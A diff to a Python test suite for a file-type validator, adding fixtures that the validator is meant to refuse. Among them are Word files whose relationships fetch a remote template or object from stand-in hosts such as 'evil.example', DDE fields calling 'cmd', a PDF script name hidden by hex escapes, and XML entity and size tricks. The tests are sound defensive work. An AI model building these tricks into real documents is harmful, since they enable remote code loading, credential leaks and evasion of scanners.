@@ -1,6 +1,7 @@
 """Files are told by their whole content: good ones are kept, what is two things at once is not."""
 
 import io
+import time
 import zipfile
 from collections.abc import Callable
 from functools import cache
@@ -41,6 +42,13 @@ def test_a_good_file_under_another_ending_is_refused(name: str, ending: str, tmp
 
 def zip_with(name: str, content: bytes = b"x") -> bytes:
     return archive({**docx_parts(), name: content})
+
+
+def related(target: str, kind: str = "attachedTemplate") -> bytes:
+    """A Word file whose settings are related to something."""
+    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    relation = f'<Relationship Id="r1" Type="{space}/{kind}" Target="{target}" TargetMode="External"/>'
+    return zip_with("word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>".encode())
 
 
 @cache
@@ -109,6 +117,10 @@ SPOILT: dict[str, tuple[str, bytes | Callable[[], bytes]]] = {
     "a document with a script": ("a.pdf", pdf(b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n")),
     "a document that starts a program": ("a.pdf", pdf(b"3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n")),
     "a document with a file in it": ("a.pdf", pdf(b"3 0 obj\n<</Type/EmbeddedFile>>\nendobj\n")),
+    "a document with a script by another spelling": (
+        "a.pdf",
+        pdf(b"3 0 obj\n<</S/J#61vaScript/#4aS(app.alert(1))>>\nendobj\n"),
+    ),
     "a document of no version": ("a.pdf", b"%PDF-\n%%EOF"),
     "a plain archive": ("a.docx", JAR),
     "a Word file with a page before it": ("a.docx", PAGE + docx()),
@@ -130,6 +142,31 @@ SPOILT: dict[str, tuple[str, bytes | Callable[[], bytes]]] = {
         "a.docx",
         archive({**docx_parts(), "[Content_Types].xml": '<!DOCTYPE t [<!ENTITY a "a">]><Types/>'}),
     ),
+    "a Word file whose list of parts has no end": (
+        "a.docx",
+        lambda: archive({**docx_parts(), "[Content_Types].xml": "<Types>" + "<a/>" * 300_000 + "</Types>"}),
+    ),
+    "a Word file with entities in UTF-16": (
+        "a.docx",
+        archive(
+            {
+                **docx_parts(),
+                "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-16"?>'
+                '<!DOCTYPE t [<!ENTITY a "a">]><Types>&a;</Types>'.encode("utf-16"),
+            }
+        ),
+    ),
+    "a Word file that fetches its template": ("a.docx", lambda: related("https://evil.example/a.dotm")),
+    "a Word file that fetches it from a share": ("a.docx", lambda: related("file:////evil.example/a.dotm")),
+    "a Word file that fetches an object": ("a.docx", lambda: related("\\\\evil\\a", "oleObject")),
+    "a Word file that asks a program": (
+        "a.docx",
+        zip_with("word/header1.xml", b"<w:instrText xml:space='preserve'> DDE cmd</w:instrText>"),
+    ),
+    "a workbook that asks a program": (
+        "a.docx",
+        zip_with("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>"),
+    ),
     "a workbook called Word": ("a.docx", xlsx()),
     "a workbook cut short": ("a.xlsx", xlsx()[:-30]),
     "an archive that unpacks to far more": ("a.docx", bomb),
@@ -148,6 +185,22 @@ def test_whatever_is_something_else_or_something_more_is_refused(what: str, tmp_
 def test_a_script_s_name_inside_compressed_data_is_no_script(tmp_path: Path) -> None:
     packed = pdf(b"3 0 obj\n<</Length 8>>\nstream\n/JS (x)\nendstream\nendobj\n")
     assert kind_of(packed, "a.pdf", tmp_path) == "application/pdf"
+
+
+def test_a_folder_of_the_writer_and_a_link_to_click_are_no_harm(tmp_path: Path) -> None:
+    for target, kind in (
+        ("file:///C:\\Templates\\公文.dotx", "attachedTemplate"),
+        ("C:\\Templates\\公文.dotx", "attachedTemplate"),
+        ("https://www.gov.cn/", "hyperlink"),
+    ):
+        assert kind_of(related(target, kind), "a.docx", tmp_path).endswith("wordprocessingml.document")
+
+
+def test_a_picture_of_nothing_but_filling_takes_no_time(tmp_path: Path) -> None:
+    scan = jpeg()[: -len(b"\xff\xd9")]
+    began = time.process_time()
+    assert kind_of(scan + b"\xff\x00" * 4_000_000 + b"\xff\xd9", "a.jpg", tmp_path) == "image/jpeg"
+    assert time.process_time() - began < 1
 
 
 def test_an_empty_file_is_refused(tmp_path: Path) -> None:
